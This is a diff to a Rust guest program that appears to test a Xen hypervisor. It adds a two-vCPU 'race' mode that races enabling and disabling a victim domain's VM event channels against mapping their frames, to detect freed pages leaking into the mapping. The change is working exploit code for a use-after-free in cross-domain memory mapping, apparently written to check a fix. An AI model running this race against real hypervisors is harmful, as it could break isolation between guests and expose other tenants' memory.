@@ -26,7 +26,9 @@
 //!   hostile rounds: garbage answers, states, storms, cycles), `deferred`
 //!   (7d: dies while an LSTAR write waits for its answer), `dying` (7c:
 //!   ENABLE_CHANNELS and GET_PORTS on the victim once the host has
-//!   destroyed it).
+//!   destroyed it), `race` (1 and the issue's racing ENABLE/DISABLE/map:
+//!   needs 2 vCPUs; vCPU 1 cycles the channels and at once takes pages for
+//!   itself, vCPU 0 maps the channel frames over and over).
 //! - a victim given `hit=DOMID` runs the same operations on that domain
 //!   (`victim: flask: domain D: ...`) before its busy loop.
 #![no_std]
@@ -37,7 +39,7 @@ extern crate alloc;
 use alloc::vec;
 use alloc::vec::Vec;
 use core::arch::asm;
-use core::sync::atomic::{AtomicU64, Ordering};
+use core::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 
 use boot::cmdline::{Cmdline, CmdlineError};
 use boot::xen::{XenError, DOMID_SELF, XENMEM_RESOURCE_GRANT_TABLE};
@@ -109,6 +111,7 @@ fn dispatch(c: &Cmdline<'static>) -> Result<(), CmdlineError<'static>> {
                     "fuzz",
                     "deferred",
                     "dying",
+                    "race",
                 ],
             )?;
             let t = c.number("target", 0, 1, 0x7fef)? as u16;
@@ -123,6 +126,7 @@ fn dispatch(c: &Cmdline<'static>) -> Result<(), CmdlineError<'static>> {
                 "fuzz" => fuzz(t, rounds, c.number("cycles", 0, 0, 100)?),
                 "deferred" => deferred(t),
                 "dying" => dying(t),
+                "race" => race(t, rounds),
                 "flask" => {
                     flask(t, c.get("others").unwrap_or(""));
                     Ok(())
@@ -470,6 +474,165 @@ fn dying(t: u16) -> Result<(), XenError> {
     };
     println!("attack dying: domain {t} is dying: enable={enable} get_ports={get_ports}");
     Ok(())
+}
+
+/// What [`race`] writes into pages of its own while it holds them.
+const MARK: u64 = 0x4b52_414d_4543_4152; // "RACEMARK"
+/// Pages [`race`] takes for itself after each DISABLE.
+const RACE_PAGES: usize = 8;
+
+/// Finding 1, and racing ENABLE/DISABLE against mapping from two vCPUs:
+/// vCPU 1 enables the victim's channels, disables them, and at once backs
+/// [`RACE_PAGES`] frames of its own with new pages, marks them, holds them
+/// a moment, clears and returns them. vCPU 0 maps the channel frames over
+/// and over, reads every frame it got (at once and again a little later)
+/// and unmaps them. Unfixed, a channel page DISABLE freed between Xen's
+/// hand-out of its frame number and the mapping could be anybody's by the
+/// time it was mapped, ours among them: a marked frame in a channel
+/// mapping is a page that was not the victim's.
+fn race(t: u16, rounds: u64) -> Result<(), XenError> {
+    static STOP: AtomicBool = AtomicBool::new(false);
+    static N: [AtomicU64; 8] = [const { AtomicU64::new(0) }; 8];
+    const ENABLED: usize = 0;
+    const BUSY: usize = 1;
+    const ENABLE_ERR: usize = 2;
+    const TAKEN: usize = 3;
+    const MAPPED: usize = 4;
+    const REFUSED: usize = 5;
+    const MARKED: usize = 6;
+    const FRAMES: usize = 7;
+    if smp::nr_vcpus() < 2 {
+        println!("attack race: needs 2 vCPUs, has {}", smp::nr_vcpus());
+        return Ok(());
+    }
+    static REFUSED_BY: [AtomicU64; 128] = [const { AtomicU64::new(0) }; 128];
+    // The largest ring: the longer Xen's mapping loop, the wider the
+    // window between hand-out and mapping of the last frames.
+    const RING: u32 = vmevent::abi::domctl::XEN_VM_EVENT_MAX_RING_FRAMES;
+    let ch = xenctl::enable_channels(t, RING)?;
+    xenctl::disable_channels(t)?;
+    let frames = u64::from(RING + ch.slot_frames);
+    // Room for our pages: give as many of our own back first.
+    let ram = boot::alloc_ram_frames(RACE_PAGES as u64).expect("free frames") >> 12;
+    let own: Vec<u64> = (ram..ram + RACE_PAGES as u64).collect();
+    if xenctl::decrease_reservation(&own)? != RACE_PAGES as u64 {
+        println!("attack race: could not make room for {RACE_PAGES} pages");
+        return Ok(());
+    }
+    let ours = boot::alloc_gfns(RACE_PAGES as u64).expect("free guest frames");
+    let ours: Vec<u64> = (ours..ours + RACE_PAGES as u64).collect();
+    let at = boot::alloc_gfns(frames).expect("free guest frames");
+    let at: Vec<u64> = (at..at + frames).collect();
+    let count = |i: usize| N[i].fetch_add(1, Ordering::Relaxed);
+    let last_err = AtomicU64::new(0);
+    println!("attack race: {rounds} cycles against mappings of {frames} frame(s)");
+    let r = smp::start_all(|id| match id {
+        1 => {
+            let t0 = time::now_ns();
+            for r in 0..rounds {
+                if r % 2000 == 0 {
+                    println!(
+                        "attack race: cycle {r} at {} ms, {} mapping(s) made",
+                        (time::now_ns() - t0) / 1_000_000,
+                        N[MAPPED].load(Ordering::Relaxed)
+                    );
+                }
+                match xenctl::enable_channels(t, RING) {
+                    Ok(_) => count(ENABLED),
+                    Err(XenError::EBUSY) => count(BUSY),
+                    Err(e) => {
+                        last_err.store(e.0 as u64, Ordering::Relaxed);
+                        count(ENABLE_ERR)
+                    }
+                };
+                // Live for 0-63 µs, so that vCPU 0's mappings meet the
+                // DISABLE at every point of their way.
+                spin_ns((r % 64) * 1000);
+                let _ = xenctl::disable_channels(t);
+                if xenctl::populate_physmap(&ours) != Ok(RACE_PAGES as u64) {
+                    continue;
+                }
+                count(TAKEN);
+                for g in &ours {
+                    // SAFETY: Xen just backed this frame of ours with a
+                    // page (identity mapped); we clear it before we give
+                    // it back.
+                    unsafe { ((g << 12) as *mut u64).write_volatile(MARK) };
+                }
+                // A spin, not a sleep: the hold must be short and sure.
+                spin_ns(50_000);
+                for g in &ours {
+                    // SAFETY: as above, still ours.
+                    unsafe { ((g << 12) as *mut u64).write_volatile(0) };
+                }
+                let _ = xenctl::decrease_reservation(&ours);
+            }
+            STOP.store(true, Ordering::Release);
+        }
+        0 => {
+            let mut gfns = at.clone();
+            while !STOP.load(Ordering::Acquire) {
+                gfns.copy_from_slice(&at);
+                let got = xenctl::acquire_channels(t, &mut gfns);
+                if let Err(e) = got {
+                    REFUSED_BY[(e.0 as usize).min(127)].fetch_add(1, Ordering::Relaxed);
+                }
+                if got.is_ok() {
+                    count(MAPPED);
+                    for g in &at {
+                        count(FRAMES);
+                        // SAFETY: just mapped there (a channel frame, or
+                        // whatever Xen put there); read only.
+                        if unsafe { ((g << 12) as *const u64).read_volatile() } == MARK {
+                            count(MARKED);
+                        }
+                    }
+                } else {
+                    count(REFUSED);
+                }
+                // Also after a failure: Xen may have mapped the first few.
+                for g in &at {
+                    let _ = xenctl::remove_from_physmap(*g);
+                }
+            }
+        }
+        _ => {}
+    });
+    if let Err((id, e)) = r {
+        println!("attack race: vCPU {id} did not start: {e}");
+    }
+    let n = |i: usize| N[i].load(Ordering::Relaxed);
+    let mut why = alloc::string::String::new();
+    for (e, c) in REFUSED_BY.iter().enumerate() {
+        let c = c.load(Ordering::Relaxed);
+        if c > 0 {
+            why.push_str(&alloc::format!(" {}:{c}", XenError(e as i32).name()));
+        }
+    }
+    println!("attack race: mappings refused by error:{why}");
+    println!(
+        "attack race: {rounds} cycles: enabled {} busy {} other errors {} (last {}), pages taken {} times; \
+         mappings: made {} refused {}; frames read {}, marked {}",
+        n(ENABLED),
+        n(BUSY),
+        n(ENABLE_ERR),
+        XenError(last_err.load(Ordering::Relaxed) as i32),
+        n(TAKEN),
+        n(MAPPED),
+        n(REFUSED),
+        n(FRAMES),
+        n(MARKED)
+    );
+    let _ = xenctl::disable_channels(t);
+    Ok(())
+}
+
+/// Spins for `ns` (a sleep would hand the timing to the timer).
+fn spin_ns(ns: u64) {
+    let until = time::now_ns() + ns;
+    while time::now_ns() < until {
+        core::hint::spin_loop();
+    }
 }
 
 /// Finding 2: fill the victim's event channel table with ports of ours, then
